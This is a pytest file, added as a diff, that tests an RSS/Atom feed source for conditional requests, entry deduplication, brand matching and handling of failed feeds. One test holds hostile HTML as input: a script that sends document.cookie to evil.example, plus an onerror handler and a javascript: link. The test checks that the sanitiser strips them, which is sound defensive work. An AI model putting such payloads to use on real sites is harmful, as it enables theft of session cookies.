@@ -1,0 +1,289 @@
+"""The RSS/Atom source against fake feed servers on 127.0.0.1: conditional GETs and
+304s, RSS and Atom alike, entries known by id or link, the brand filter, hostile HTML,
+and one bad feed never stopping the others."""
+
+from __future__ import annotations
+
+import logging
+from collections.abc import AsyncIterator
+from typing import Any
+
+import pytest
+from fakes.feeds import FakeFeeds, Item, atom, rss
+from fakes.pipeline import BRAND, shared_http, stages
+from fakes.server import Scripted
+from pydantic import ValidationError
+
+from earful.http import SharedSession
+from earful.pipeline import poll
+from listener.base import RateLimited, SourceContext, SourceDown
+from listener.rss import RssSource, Settings, build
+from storage.store import Store
+
+
+@pytest.fixture
+async def fake() -> AsyncIterator[FakeFeeds]:
+    async with FakeFeeds() as server:
+        yield server
+
+
+http = pytest.fixture(shared_http, name="http")
+
+
+def source(http: SharedSession, urls: list[str], **keys: Any) -> RssSource:
+    table = {"name": "feeds", "type": "rss", "urls": urls, **keys}
+    return build(Settings.model_validate(table), SourceContext(brand=BRAND, http=http.get))
+
+
+def texts(store: Store) -> list[str]:
+    return [r[0] for r in store.conn.execute("SELECT text FROM mentions ORDER BY id")]
+
+
+NEWS = [
+    Item(
+        "tag:news.example,2026:1",
+        "Acme outage hits thousands",
+        "<p>Customers of <b>Acme</b> lost service.</p>",
+        "https://news.example/1",
+        "Jo Reporter",
+    ),
+    Item(
+        "tag:news.example,2026:2",
+        "Globex opens new office",
+        "<p>Nothing about the brand.</p>",
+        "https://news.example/2",
+    ),
+]
+
+
+# -- formats ----------------------------------------------------------------------------------
+
+
+async def test_rss_and_atom_feeds_are_both_read(
+    fake: FakeFeeds, http: SharedSession, store: Store
+) -> None:
+    reviews = [
+        Item(
+            "urn:review:9",
+            "Two stars for ACME",
+            "<div>Router died &amp; support was slow</div>",
+            "/reviews/9",
+        )
+    ]
+    urls = [
+        fake.publish("news", rss("News", NEWS)),
+        fake.publish("reviews", atom("Reviews", reviews), "application/atom+xml"),
+    ]
+    summary = await poll(source(http, urls), store, stages())
+    assert summary.new == 2
+    assert texts(store) == [
+        "Acme outage hits thousands\n\nCustomers of Acme lost service.",
+        "Two stars for ACME\n\nRouter died & support was slow",
+    ]
+    rows = store.conn.execute("SELECT author_name, url FROM mentions ORDER BY id").fetchall()
+    assert tuple(rows[0]) == ("Jo Reporter", "https://news.example/1")
+    assert tuple(rows[1]) == ("Reviews", f"{fake.url}/reviews/9")  # relative link resolved
+
+
+async def test_without_match_every_entry_is_kept(
+    fake: FakeFeeds, http: SharedSession, store: Store
+) -> None:
+    url = fake.publish("news", rss("News", NEWS))
+    summary = await poll(source(http, [url], match=False), store, stages())
+    assert summary.new == 2
+
+
+async def test_match_wants_the_brand_as_a_whole_word(
+    fake: FakeFeeds, http: SharedSession, store: Store
+) -> None:
+    items = [
+        Item("1", "Visiting Acmeville this summer"),
+        Item("2", "Why I left ACME"),
+        Item("3", "Roadrunner", "<p>ordered from acme, again</p>"),
+    ]
+    url = fake.publish("blog", rss("Blog", items))
+    await poll(source(http, [url]), store, stages())
+    assert [t.split("\n")[0] for t in texts(store)] == ["Why I left ACME", "Roadrunner"]
+
+
+# -- conditional GET -----------------------------------------------------------------------------
+
+
+async def test_an_unchanged_feed_costs_a_304_and_stores_nothing(
+    fake: FakeFeeds, http: SharedSession, store: Store
+) -> None:
+    url = fake.publish("news", rss("News", NEWS))
+    feeds = source(http, [url])
+    await poll(feeds, store, stages())
+    before = store.cursor("feeds")
+    summary = await poll(feeds, store, stages())
+    first, second = fake.seen("/feeds/news")
+    assert "If-None-Match" not in first.headers
+    assert second.headers["If-None-Match"] == fake.documents["news"].tag
+    assert second.headers["If-Modified-Since"] == "Fri, 20 Nov 2026 09:00:00 GMT"
+    assert summary.fetched == 0 and summary.new == 0
+    assert store.cursor("feeds") == before
+
+
+async def test_a_server_without_etags_gets_if_modified_since(
+    fake: FakeFeeds, http: SharedSession, store: Store
+) -> None:
+    url = fake.publish("news", rss("News", NEWS), etag=False)
+    feeds = source(http, [url])
+    await poll(feeds, store, stages())
+    summary = await poll(feeds, store, stages())
+    second = fake.seen("/feeds/news")[1]
+    assert "If-None-Match" not in second.headers
+    assert second.headers["If-Modified-Since"] == "Fri, 20 Nov 2026 09:00:00 GMT"
+    assert summary.fetched == 0
+
+
+async def test_a_changed_feed_offers_only_its_new_entries(
+    fake: FakeFeeds, http: SharedSession, store: Store
+) -> None:
+    url = fake.publish("news", rss("News", NEWS))
+    feeds = source(http, [url])
+    await poll(feeds, store, stages())
+    later = Item("tag:news.example,2026:3", "Acme apologises", "<p>Credits for all</p>")
+    fake.publish("news", rss("News", [later, *NEWS]))
+    summary = await poll(feeds, store, stages())
+    assert summary.fetched == 1 and summary.new == 1
+    assert store.cursor("feeds")["feeds"][url]["etag"] == fake.documents["news"].tag
+
+
+async def test_a_server_that_ignores_conditional_requests_still_repeats_nothing(
+    fake: FakeFeeds, http: SharedSession, store: Store
+) -> None:
+    url = fake.publish("news", rss("News", NEWS))
+    feeds = source(http, [url])
+    await poll(feeds, store, stages())
+    fake.script("/feeds/news", Scripted(200, rss("News", NEWS), content_type="application/rss+xml"))
+    summary = await poll(feeds, store, stages())
+    assert summary.fetched == 0
+
+
+# -- identity ------------------------------------------------------------------------------------
+
+
+async def test_entries_are_known_by_id_else_link_and_kept_once(
+    fake: FakeFeeds, http: SharedSession, store: Store, caplog: pytest.LogCaptureFixture
+) -> None:
+    items = [
+        Item(None, "Acme by link", link="https://blog.example/acme-1"),
+        Item("dup-1", "Acme twice"),
+        Item("dup-1", "Acme twice"),
+        Item(None, "Acme with neither id nor link"),
+    ]
+    url = fake.publish("blog", rss("Blog", items))
+    summary = await poll(source(http, [url]), store, stages())
+    ids = sorted(r[0] for r in store.conn.execute("SELECT native_id FROM mentions"))
+    assert ids == ["dup-1", "https://blog.example/acme-1"]
+    assert summary.new == 2
+    assert "neither an id nor a link" in caplog.text
+
+
+async def test_hostile_html_in_entries_is_plain_text(
+    fake: FakeFeeds, http: SharedSession, store: Store
+) -> None:
+    html = (
+        '<p>acme <script>document.location="https://evil.example/?c="+document.cookie</script>'
+        'billing &amp; &quot;support&quot; &#x1F621;</p><iframe src="https://evil.example"></iframe>'
+        '<img src=x onerror="alert(1)"><a href="javascript:alert(1)">details</a>'
+        "<style>body{display:none}</style>"
+    )
+    url = fake.publish(
+        "x", atom("X", [Item("urn:x:1", "<b>Acme</b> <3", html)]), "application/atom+xml"
+    )
+    await poll(source(http, [url]), store, stages())
+    (text,) = texts(store)
+    assert "script" not in text and "evil" not in text and "display" not in text
+    # the title is plain text (type="text"): its markup-like characters are the title
+    assert text == '<b>Acme</b> <3\n\nacme billing & "support" 😡\n\ndetails'
+
+
+# -- failures ------------------------------------------------------------------------------------
+
+
+async def test_one_bad_feed_does_not_stop_the_others(
+    fake: FakeFeeds, http: SharedSession, store: Store, caplog: pytest.LogCaptureFixture
+) -> None:
+    good = fake.publish("news", rss("News", NEWS))
+    garbage = fake.publish("garbage", b"\x00\x01 this is not xml {", "application/rss+xml")
+    urls = [fake.feed_url("missing"), garbage, good]
+    feeds = source(http, urls)
+    caplog.set_level(logging.DEBUG, logger="earful.rss")
+    assert (await poll(feeds, store, stages())).new == 1
+    fake.publish("news", rss("News", [Item("n3", "Acme again"), *NEWS]))
+    assert (await poll(feeds, store, stages())).new == 1
+
+    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
+    assert len(warnings) == 2  # each bad feed once, not once a poll
+    assert any("HTTP 404" in w for w in warnings)
+    assert any("not an RSS or Atom feed" in w for w in warnings)
+    cursor = store.cursor("feeds")["feeds"]
+    assert cursor[garbage] == {"etag": None, "modified": None, "seen": []}
+
+    fake.publish("garbage", rss("Fixed", [Item("g1", "Acme fixed")]))
+    assert (await poll(feeds, store, stages())).new == 1
+    assert f"feed {garbage} recovered" in caplog.text
+
+
+async def test_every_feed_failing_is_source_down(
+    fake: FakeFeeds, http: SharedSession, store: Store
+) -> None:
+    bad = fake.publish("bad", "<html><body>Moved</body></html>", "text/html")
+    feeds = source(http, [fake.feed_url("gone"), bad])
+    with pytest.raises(SourceDown, match="all 2 feeds failed"):
+        await poll(feeds, store, stages())
+    assert store.cursor("feeds") is None
+
+
+async def test_a_lone_feed_keeps_its_own_error(
+    fake: FakeFeeds, http: SharedSession, store: Store
+) -> None:
+    url = fake.publish("news", rss("News", NEWS))
+    fake.script("/feeds/news", Scripted(429, "slow down", {"Retry-After": "600"}, "text/plain"))
+    with pytest.raises(RateLimited):
+        await poll(source(http, [url]), store, stages())
+
+
+async def test_a_truncated_feed_keeps_the_entries_before_the_break(
+    fake: FakeFeeds, http: SharedSession, store: Store
+) -> None:
+    document = rss("News", NEWS)
+    url = fake.publish("news", document[: document.index("Globex") + 10])
+    summary = await poll(source(http, [url]), store, stages())
+    assert summary.new == 1
+
+
+async def test_a_complaint_in_a_feed_becomes_a_callback(
+    fake: FakeFeeds, http: SharedSession, store: Store
+) -> None:
+    item = Item(
+        "r1", "Acme review", "<p>acme internet has been down all day, worst support ever</p>"
+    )
+    url = fake.publish("reviews", rss("Reviews", [item]))
+    summary = await poll(source(http, [url]), store, stages())
+    assert summary.ingest.callbacks == 1 and summary.ingest.replies == 0
+
+
+@pytest.mark.parametrize(
+    ("urls", "problem"),
+    [([], "at least 1"), (["ftp://news.example/feed"], "http:// or https://"), (["feed"], "http")],
+)
+def test_feed_urls_are_checked(urls: list[str], problem: str) -> None:
+    with pytest.raises(ValidationError, match=problem):
+        Settings.model_validate({"name": "f", "type": "rss", "urls": urls})
+
+
+async def test_a_private_feeds_token_stays_out_of_the_logs(
+    fake: FakeFeeds, http: SharedSession, store: Store, caplog: pytest.LogCaptureFixture
+) -> None:
+    fake.publish("news", rss("News", [Item(None, "Acme entry without id or link")]))
+    private = fake.feed_url("news") + "?token=s3cr3t-t0ken"
+    missing = fake.feed_url("gone").replace("http://", "http://user:pa55word@") + "?key=k3y"
+    await poll(source(http, [private, missing]), store, stages())
+    assert "neither an id nor a link" in caplog.text and "HTTP 404" in caplog.text
+    for secret in ("s3cr3t-t0ken", "pa55word", "k3y"):
+        assert secret not in caplog.text
+    assert f"{fake.url}/feeds/news?..." in caplog.text
